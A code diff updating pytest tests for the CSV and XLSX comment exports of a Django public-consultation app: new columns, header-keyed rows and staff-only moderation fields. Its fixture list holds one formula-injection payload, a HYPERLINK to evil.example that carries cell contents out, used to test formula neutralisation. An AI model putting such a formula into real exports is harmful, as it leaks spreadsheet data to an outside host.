@@ -13,7 +13,7 @@ from django.db import connection
 from django.http import FileResponse, StreamingHttpResponse
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
-from django.utils import timezone
+from django.utils import timezone, translation
 from openpyxl import load_workbook
 
 from guidelines import exports
@@ -33,6 +33,8 @@ pytestmark = pytest.mark.django_db
 PUBLIC = ["export_csv", "export_xlsx"]
 INTERNAL = ["export_internal_csv", "export_internal_xlsx"]
 HEADERS = [
+    "Document",
+    "Version",
     "Chapter",
     "Paragraph",
     "Paragraph key",
@@ -46,11 +48,18 @@ HEADERS = [
     "Moderation state",
     "Withdrawn",
     "Disposition",
-    "Reasoning (Markdown)",
+    "Reasoning",
     "Answered by",
     "Answered on",
+    "Led to (later version)",
 ]
-COLUMN = {name: index for index, name in enumerate(HEADERS)}
+# Staff also see why a comment was hidden and the moderator's note.
+INTERNAL_HEADERS = [
+    *HEADERS[:13],
+    "Reason for hiding",
+    "Moderator note",
+    *HEADERS[13:],
+]
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?q="&A1;"Klick")',
     "+49 631 365 0",
@@ -97,11 +106,14 @@ def rows(client, name, version):
 
 
 def by_id(table):
-    """Data rows by comment id, with "" for empty cells in both formats."""
-    return {
-        int(row[COLUMN["Comment ID"]]): ["" if v is None else str(v) for v in row]
+    """Data rows by comment id, each a dict by column header, "" for empty cells in both
+    formats."""
+    headers = table[0]
+    rows = [
+        dict(zip(headers, ["" if v is None else str(v) for v in row], strict=True))
         for row in table[1:]
-    }
+    ]
+    return {int(row["Comment ID"]): row for row in rows}
 
 
 def login(client, request, persona):
@@ -200,13 +212,11 @@ def test_column_headers_are_german_by_default(client, consultation):
     response = client.get(url("export_csv", consultation))
 
     headers = csv_rows(response)[0]
-    assert headers[0] == "Kapitel"
-    assert headers[1] == "Absatz"
-    assert headers[8] == "Kommentar"
-    assert headers[9] == "Zustimmungen"
-    assert headers[12] == "Einordnung"
+    assert headers[2:4] == ["Kapitel", "Absatz"]
+    assert headers[10:12] == ["Kommentar", "Zustimmungen"]
+    assert headers[14] == "Einordnung"
     assert "-kommentare.csv" in response["Content-Disposition"]
-    assert headers[11] == "Zurückgezogen am"  # read back as UTF-8: umlauts intact
+    assert headers[13] == "Zurückgezogen am"  # read back as UTF-8: umlauts intact
 
 
 # --- contents ----------------------------------------------------------------------------
@@ -220,24 +230,25 @@ def test_public_export_lists_what_the_thread_shows(client, consultation, name):
     assert c["pending"].pk not in table
     assert set(table) == {c[k].pk for k in c if k != "pending"}
     published = table[c["published"].pk]
-    assert published[COLUMN["Chapter"]] == "Kapitel 1"
-    assert published[COLUMN["Paragraph"]] == "1"
-    assert published[COLUMN["Paragraph key"]] == "p001"
-    assert published[COLUMN["Paragraph text (excerpt)"]].startswith("Absatz 1: Die Stadt")
-    assert published[COLUMN["Author"]] == "Anna"
-    assert published[COLUMN["Comment"]] == "Mehr Fristen, bitte."
-    assert published[COLUMN["Supports"]] == "3"
-    assert published[COLUMN["Moderation state"]] == "Published"
-    assert published[COLUMN["Disposition"]] == "partly adopted"
-    assert published[COLUMN["Reasoning (Markdown)"]] == "Wir haben die Frist **verlängert**."
-    assert published[COLUMN["Answered by"]] == "Referat Bürgerbeteiligung"
-    assert published[COLUMN["Answered on"]].startswith(timezone.localdate().isoformat())
+    assert published["Document"] == consultation.document.title
+    assert published["Version"] == consultation.label
+    assert published["Chapter"] == "Kapitel 1"
+    with translation.override("en"):
+        assert published["Paragraph"] == first_paragraph(consultation).label
+    assert published["Paragraph key"] == "p001"
+    assert published["Paragraph text (excerpt)"].startswith("Absatz 1: Die Stadt")
+    assert published["Author"] == "Anna"
+    assert published["Comment"] == "Mehr Fristen, bitte."
+    assert published["Supports"] == "3"
+    assert published["Moderation state"] == "Published"
+    assert published["Disposition"] == "partly adopted"
+    assert published["Reasoning"] == "Wir haben die Frist verlängert."
+    assert published["Answered by"] == "Referat Bürgerbeteiligung"
+    assert published["Answered on"].startswith(timezone.localdate().isoformat())
     local = timezone.localtime(c["published"].created_at)
-    assert published[COLUMN["Written"]] == local.replace(tzinfo=None, microsecond=0).isoformat(
-        sep=" "
-    )
-    assert table[c["reply"].pk][COLUMN["Reply to comment ID"]] == str(c["published"].pk)
-    assert table[c["orphaned"].pk][COLUMN["Author"]] == "deleted account"
+    assert published["Written"] == local.replace(tzinfo=None, microsecond=0).isoformat(sep=" ")
+    assert table[c["reply"].pk]["Reply to comment ID"] == str(c["published"].pk)
+    assert table[c["orphaned"].pk]["Author"] == "deleted account"
 
 
 @pytest.mark.parametrize("name", PUBLIC)
@@ -253,12 +264,12 @@ def test_public_export_leaves_out_hidden_held_and_withdrawn_texts(client, consul
     ]:
         assert text not in everything
         row = table[c[kind].pk]
-        assert row[COLUMN["Comment"]] == ""
-        assert row[COLUMN["Author"]] == ""
+        assert row["Comment"] == ""
+        assert row["Author"] == ""
     assert "Wartender Text" not in everything
-    assert table[c["hidden"].pk][COLUMN["Moderation state"]] == "Hidden by moderation"
-    assert table[c["withdrawn"].pk][COLUMN["Withdrawn"]] != ""
-    assert table[c["published"].pk][COLUMN["Withdrawn"]] == ""
+    assert table[c["hidden"].pk]["Moderation state"] == "Hidden by moderation"
+    assert table[c["withdrawn"].pk]["Withdrawn"] != ""
+    assert table[c["published"].pk]["Withdrawn"] == ""
 
 
 @pytest.mark.parametrize("name", INTERNAL)
@@ -266,15 +277,17 @@ def test_internal_export_has_every_comment_with_its_text(client, editor, consult
     client.force_login(editor)
     c = consultation.comments
 
-    table = by_id(rows(client, name, consultation))
+    table = rows(client, name, consultation)
+    assert table[0] == INTERNAL_HEADERS
+    table = by_id(table)
 
     assert set(table) == {comment.pk for comment in c.values()}
-    assert table[c["hidden"].pk][COLUMN["Comment"]] == "Beleidigender Text"
-    assert table[c["hidden"].pk][COLUMN["Author"]] == "Ben"
-    assert table[c["held"].pk][COLUMN["Comment"]] == "Gemeldeter Text"
-    assert table[c["withdrawn"].pk][COLUMN["Comment"]] == "Zurückgezogener Text"
-    assert table[c["pending"].pk][COLUMN["Comment"]] == "Wartender Text"
-    assert table[c["pending"].pk][COLUMN["Moderation state"]] == "Awaiting moderation"
+    assert table[c["hidden"].pk]["Comment"] == "Beleidigender Text"
+    assert table[c["hidden"].pk]["Author"] == "Ben"
+    assert table[c["held"].pk]["Comment"] == "Gemeldeter Text"
+    assert table[c["withdrawn"].pk]["Comment"] == "Zurückgezogener Text"
+    assert table[c["pending"].pk]["Comment"] == "Wartender Text"
+    assert table[c["pending"].pk]["Moderation state"] == "Awaiting moderation"
 
 
 @pytest.mark.parametrize(("public", "internal"), list(zip(PUBLIC, INTERNAL, strict=True)))
@@ -285,14 +298,14 @@ def test_unpublished_responses_are_only_in_the_internal_export(
     published = consultation.comments["published"].pk
 
     row = by_id(rows(client, public, consultation))[published]
-    assert row[COLUMN["Disposition"]] == ""
-    assert row[COLUMN["Reasoning (Markdown)"]] == ""
-    assert row[COLUMN["Answered by"]] == ""
+    assert row["Disposition"] == ""
+    assert row["Reasoning"] == ""
+    assert row["Answered by"] == ""
 
     client.force_login(editor)
     row = by_id(rows(client, internal, consultation))[published]
-    assert row[COLUMN["Disposition"]] == "partly adopted"
-    assert row[COLUMN["Reasoning (Markdown)"]] == "Wir haben die Frist **verlängert**."
+    assert row["Disposition"] == "partly adopted"
+    assert row["Reasoning"] == "Wir haben die Frist verlängert."
 
 
 def test_responses_published_in_the_future_are_not_public_yet(client, consultation):
@@ -302,14 +315,19 @@ def test_responses_published_in_the_future_are_not_public_yet(client, consultati
 
     table = by_id(rows(client, "export_csv", consultation))
 
-    assert table[consultation.comments["published"].pk][COLUMN["Disposition"]] == ""
+    assert table[consultation.comments["published"].pk]["Disposition"] == ""
 
 
-def test_export_of_a_version_without_comments_has_only_the_header(client):
+@pytest.mark.parametrize("name", PUBLIC)
+def test_export_of_a_version_without_comments_is_a_page_saying_so(client, name):
     version = make_version(state=Version.State.CLOSED)
 
-    assert rows(client, "export_csv", version) == [HEADERS]
-    assert rows(client, "export_xlsx", version) == [HEADERS]
+    response = client.get(url(name, version))
+
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/html")
+    assert "Content-Disposition" not in response
+    assert b"data-export-empty" in response.content
 
 
 def test_rows_follow_the_paragraph_order(client, resident):
@@ -320,7 +338,8 @@ def test_rows_follow_the_paragraph_order(client, resident):
 
     table = rows(client, "export_csv", version)
 
-    assert [row[COLUMN["Paragraph"]] for row in table[1:]] == ["1", "2", "3"]
+    column = table[0].index("Paragraph key")
+    assert [row[column] for row in table[1:]] == ["p001", "p002", "p003"]
 
 
 # --- spreadsheet formulas ----------------------------------------------------------------
@@ -348,8 +367,8 @@ def test_csv_cells_that_would_compute_get_an_apostrophe(client, editor, resident
 
     for comment in made:
         row = table[comment.pk]
-        assert row[COLUMN["Comment"]] == "'" + comment.text
-        assert row[COLUMN["Author"]] == "'=1+1"
+        assert row["Comment"] == "'" + comment.text
+        assert row["Author"] == "'=1+1"
         assert not any(cell.startswith(spreadsheets.FORMULA_TRIGGERS) for cell in row)
 
 
@@ -382,7 +401,7 @@ def test_xlsx_drops_control_characters_a_worksheet_cannot_hold(client, resident)
 
     table = by_id(rows(client, "export_xlsx", version))
 
-    assert table[comment.pk][COLUMN["Comment"]] == "Glocke und Tab"
+    assert table[comment.pk]["Comment"] == "Glocke und Tab"
 
 
 # --- who may download what ---------------------------------------------------------------
